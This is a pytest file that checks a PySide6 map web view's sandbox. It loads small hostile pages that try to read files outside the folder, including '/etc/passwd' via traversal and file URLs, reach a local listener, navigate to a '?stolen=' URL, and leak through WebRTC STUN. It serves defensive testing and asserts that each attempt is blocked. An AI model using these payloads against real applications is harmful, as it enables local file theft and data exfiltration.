"""The map page is a sandbox: a script in it can read no file outside the page's folder, reach
no host but the tile server, navigate nowhere, open nothing in the system browser, and send
nothing over WebRTC. Each test loads a tiny hostile page into the map's own view class.
"""
from __future__ import annotations

import json
import socket

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices

from console.map.bridge import MapBridge
from console.map.view import MapView

LOAD_TIMEOUT_MS = 20_000


@pytest.fixture
def view(qtbot, monkeypatch):
    opened: list = []
    # Whatever the page does, nothing may reach the system browser.
    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(lambda url: opened.append(url)))
    v = MapView(MapBridge())
    v.opened = opened
    qtbot.addWidget(v)
    v.resize(400, 300)
    v.show()
    yield v
    v.stop()
    v.map_page.setUrlRequestInterceptor(None)


def _open(qtbot, view, folder, script: str, **kw) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "own.js").write_text("window.own = 'mine';\n", encoding="utf-8")
    (folder / "index.html").write_text(
        "<!doctype html><html><head><meta charset='utf-8'><script src='own.js'></script>"
        f"</head><body><a id='out' href='https://example.com/'>x</a><script>{script}</script>"
        "</body></html>", encoding="utf-8")
    with qtbot.waitSignal(view.loadFinished, timeout=LOAD_TIMEOUT_MS):
        view.open(str(folder / "index.html"), **kw)


def _js(qtbot, view, code: str):
    box: list = []
    view.page().runJavaScript(f"JSON.stringify({code})", 0, box.append)
    qtbot.waitUntil(lambda: bool(box), timeout=5000)
    return json.loads(box[0]) if box[0] else None


def _wait_js(qtbot, view, code: str, timeout: int = 10_000):
    seen: list = []

    def check():
        seen.append(_js(qtbot, view, code))
        return seen[-1] is not None
    qtbot.waitUntil(check, timeout=timeout)
    return seen[-1]


def test_a_script_cannot_read_a_file_outside_the_page_folder(qtbot, view, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("patrol positions", encoding="utf-8")
    (tmp_path / "page" / "sub").mkdir(parents=True)
    (tmp_path / "page" / "sub" / "near.txt").write_text("near", encoding="utf-8")
    script = """
      window.result = null;
      function get(url) {
        return fetch(url).then(function (r) { return r.text(); }, function () { return "blocked"; });
      }
      function img(url) {
        return new Promise(function (done) {
          var i = new Image(); i.onload = function () { done("loaded"); };
          i.onerror = function () { done("blocked"); }; i.src = url;
        });
      }
      function xhr(url) {   // how the page reads its own grid.bin
        return new Promise(function (done) {
          var x = new XMLHttpRequest();
          x.onload = function () { done(x.responseText ? "read:" + x.responseText : "blocked"); };
          x.onerror = function () { done("blocked"); };
          try { x.open("GET", url, true); x.send(); } catch (e) { done("blocked"); }
        });
      }
      Promise.all([get("../secret.txt"), get("%s"), get("file:///etc/passwd"),
                   img("../secret.txt"), get("sub/../../secret.txt"), xhr("../secret.txt"),
                   xhr("%s"), xhr("file:///etc/passwd"), xhr("sub/../../secret.txt")])
        .then(function (r) { window.result = r; });
      xhr("sub/near.txt").then(function (r) { window.near = r; });
    """ % (secret.as_uri(), secret.as_uri())
    _open(qtbot, view, tmp_path / "page", script)
    result = _wait_js(qtbot, view, "window.result")
    assert "patrol positions" not in json.dumps(result)
    assert all(r == "blocked" for r in result), result
    assert any("secret.txt" in u for u in view.guard.blocked)
    assert any(u.endswith("/etc/passwd") for u in view.guard.blocked)
    # The page's own folder still serves it, by tag and by request.
    assert _js(qtbot, view, "window.own") == "mine"
    assert _wait_js(qtbot, view, "window.near") == "read:near"


def test_a_script_cannot_reach_a_host_but_the_tile_server(qtbot, view, tmp_path):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    script = """
      window.result = null;
      fetch("http://127.0.0.1:%d/leak?x=1").then(function () { return "reached"; },
                                                 function () { return "blocked"; })
        .then(function (r) { window.result = r; });
    """ % port
    try:
        # A tile server is set, so the page may load remote images: the guard alone decides.
        _open(qtbot, view, tmp_path / "page", script,
              tile_hosts={"tiles.intranet.example:443"})
        assert _wait_js(qtbot, view, "window.result") == "blocked"
        assert any(f"127.0.0.1:{port}" in u for u in view.guard.blocked)
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    assert view.guard.allows(QUrl("https://tiles.intranet.example/1/2/3.png"))
    assert not view.guard.allows(QUrl("ftp://tiles.intranet.example/1/2/3.png"))


def _listener() -> tuple[socket.socket, int]:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    return listener, listener.getsockname()[1]


def _accepted(listener: socket.socket) -> bool:
    try:
        conn, _ = listener.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def test_on_the_tile_host_only_the_tile_port_and_only_images(qtbot, view, tmp_path):
    tiles, tile_port = _listener()
    other, other_port = _listener()
    script = """
      window.result = null;
      function img(url) {
        return new Promise(function (done) {
          var i = new Image(); i.onload = function () { done("loaded"); };
          i.onerror = function () { done("failed"); }; i.src = url;
        });
      }
      function get(url) {
        return fetch(url).then(function () { return "reached"; }, function () { return "failed"; });
      }
      // After the load: the tile request below is never answered, and would hold the load.
      window.addEventListener("load", function () { setTimeout(function () {
        Promise.all([img("http://127.0.0.1:%(other)d/1/2/3.png"),
                     get("http://127.0.0.1:%(other)d/admin"),
                     get("http://127.0.0.1:%(tile)d/1/2/3.png")])
          .then(function (r) { window.result = r; img("http://127.0.0.1:%(tile)d/4/5/6.png"); });
      }, 0); });
    """ % {"other": other_port, "tile": tile_port}
    try:
        _open(qtbot, view, tmp_path / "page", script, tile_hosts={f"127.0.0.1:{tile_port}"})
        assert _wait_js(qtbot, view, "window.result") == ["failed"] * 3
        # The tile image itself does go out: the guard lets the tile server through.
        qtbot.waitUntil(lambda: _accepted(tiles), timeout=10_000)
        assert not _accepted(other)
        blocked = list(view.guard.blocked)
        assert sum(f":{other_port}/" in u for u in blocked) == 2
        assert any(u.endswith(f":{tile_port}/1/2/3.png") for u in blocked)   # a fetch, no image
    finally:
        tiles.close()
        other.close()


@pytest.mark.parametrize("how", ["location", "link", "assign", "frame"])
def test_a_script_cannot_navigate_away_nor_open_the_browser(qtbot, view, tmp_path, how):
    target = "https://example.com/?stolen=" + "x" * 20
    script = {
        "location": f"setTimeout(function () {{ location.href = '{target}'; }}, 0);",
        "link": "setTimeout(function () { document.getElementById('out').click(); }, 0);",
        "assign": "setTimeout(function () { location.assign('file:///etc/passwd'); }, 0);",
        "frame": "var f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
                 "document.body.appendChild(f);",
    }[how]
    _open(qtbot, view, tmp_path / "page", script)
    page_url = view.map_page.page_url
    qtbot.waitUntil(lambda: len(view.map_page.refused) > 0 or len(view.guard.blocked) > 0,
                    timeout=10_000)
    assert view.url() == page_url
    assert view.opened == [], "nothing is handed to the system browser"
    assert _js(qtbot, view, "window.own") == "mine"   # still the same document


def test_webrtc_sends_nothing(qtbot, view, tmp_path):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    port = udp.getsockname()[1]
    # The page gathers ICE candidates against a "STUN server" on our listener, and reports
    # when gathering ends or after a bounded wait of its own.
    script = """
      window.result = null;
      try {
        var pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:%d"}]});
        var found = [];
        pc.onicecandidate = function (e) {
          if (e.candidate) found.push(e.candidate.candidate);
          else window.result = {done: true, found: found};
        };
        pc.createDataChannel("x");
        pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
        setTimeout(function () { if (!window.result) window.result = {done: false, found: found}; }, 4000);
      } catch (err) { window.result = {error: String(err)}; }
    """ % port
    try:
        _open(qtbot, view, tmp_path / "page", script)
        result = _wait_js(qtbot, view, "window.result", timeout=15_000)
        received = []
        while True:
            try:
                received.append(udp.recvfrom(2048))
            except BlockingIOError:
                break
    finally:
        udp.close()
    assert received == [], f"a STUN packet got out: {result}"
    assert not any("srflx" in c or "host" in c for c in (result or {}).get("found", [])), result
